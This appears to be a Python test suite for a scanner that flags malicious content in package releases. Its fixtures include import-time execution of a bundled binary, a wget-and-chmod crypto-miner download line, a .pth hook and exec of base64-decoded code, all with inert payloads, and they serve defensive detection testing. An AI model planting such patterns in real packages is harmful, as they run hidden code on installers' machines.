"""The entry points end to end: findings carry reviewer-ready evidence, reports are storable."""

from __future__ import annotations

import json
import re

from detectors.facts import Finding, Severity
from mirror.content import Artifact, ScanConfig, default_rules, scan_artifact, scan_release

from tests.content.helpers import raw_wheel, wheel

FAKE_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 500
RUNNER = (b"import os, subprocess\n_b = os.path.join(os.path.dirname(__file__), 'bin', 'helper')\n"
          b"subprocess.Popen([_b], stdout=subprocess.DEVNULL)\n")


def _all_evidence_is_reviewable(findings: tuple[Finding, ...]) -> None:
    for f in findings:
        assert f.detector.startswith(("content.", "provenance."))
        assert {"file", "rule", "excerpt"} <= set(f.evidence), f
        assert re.fullmatch(r"[\x20-\x7e]*", f.evidence["excerpt"]), f.evidence["excerpt"]
        assert len(f.evidence["excerpt"]) <= 400
        json.dumps(f.to_dict())


def test_first_release_that_runs_its_bundled_binary_at_import(tmp_path):
    # The torchtriton pattern: a first release whose __init__ starts a binary it ships.
    name, data = raw_wheel("tt", "2.0", files={"tt/__init__.py": RUNNER, "tt/bin/helper": FAKE_ELF,
                                               "tt/_C/libtt.so": FAKE_ELF})
    report = scan_release([Artifact(name, data, provenance_known=False)], None)
    [found] = [f for f in report.findings if f.detector == "content.runs-bundled-executable"]
    assert found.severity == Severity.HIGH
    assert found.evidence["file"] == "tt/__init__.py" and found.evidence["executables"] == ["tt/bin/helper"]
    _all_evidence_is_reviewable(report.findings)


def test_trojan_upgrade_findings_name_file_rule_and_version(tmp_path):
    old = scan_release([wheel(tmp_path, "demo", "1.0")], None)
    trojan = wheel(tmp_path, "demo", "1.1", files={
        "demo/__init__.py": b"import os\nos.system(\"echo 'harmless: wget -q https://example.invalid/xmrig && chmod +x xmrig'\")\n",
        "demo_init.pth": b"import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
    })
    report = scan_release([trojan], old.inventory)
    serious = {(f.detector, f.evidence["file"]) for f in report.findings if f.severity >= Severity.HIGH}
    assert ("content.crypto-miner", "demo/__init__.py") in serious
    assert ("content.download-execute", "demo/__init__.py") in serious
    assert ("content.pth-exec", "demo_init.pth") in serious
    assert all(f.evidence.get("new_since") == "1.0" for f in report.findings if f.severity >= Severity.HIGH)
    _all_evidence_is_reviewable(report.findings)
    assert report.ruleset_version == default_rules().version
    assert report.scanned_bytes > 0 and report.seconds >= 0


def test_clean_upgrade_is_quiet(tmp_path):
    old = scan_release([wheel(tmp_path, "demo", "1.0", files={"demo/util.py": b"def f():\n    return 1\n"})], None)
    new = scan_release([wheel(tmp_path, "demo", "1.1", files={"demo/util.py": b"def f():\n    return 2\n"})],
                       old.inventory)
    assert new.findings == ()


def test_per_file_entry_for_the_streaming_case(tmp_path):
    old = scan_release([wheel(tmp_path, "demo", "1.0")], None)
    artifact = wheel(tmp_path, "demo", "1.1", files={"demo/x.py": b"import base64\nexec(base64.b64decode('eA=='))\n"})
    report = scan_artifact(artifact, old.inventory, ScanConfig())
    assert report.complete and report.filename == artifact.filename
    assert any(f.detector == "content.exec-decoded" for f in report.findings)
    assert report.inventory["files"]["demo/x.py"]["risk"] == "high"


def test_several_artifacts_share_one_budget(tmp_path):
    a = wheel(tmp_path, "demo", "1.0", files={"demo/a.txt": b"a" * 4000})
    b = wheel(tmp_path / "b", "demo", "1.0", files={"demo/b.txt": b"b" * 4000}, tag="py2-none-any")
    report = scan_release([a, b], None, ScanConfig(max_total_bytes=6000))
    assert not report.complete
    assert [f.evidence["artifact"] for f in report.findings if f.detector == "content.scan-incomplete"] == [b.filename]
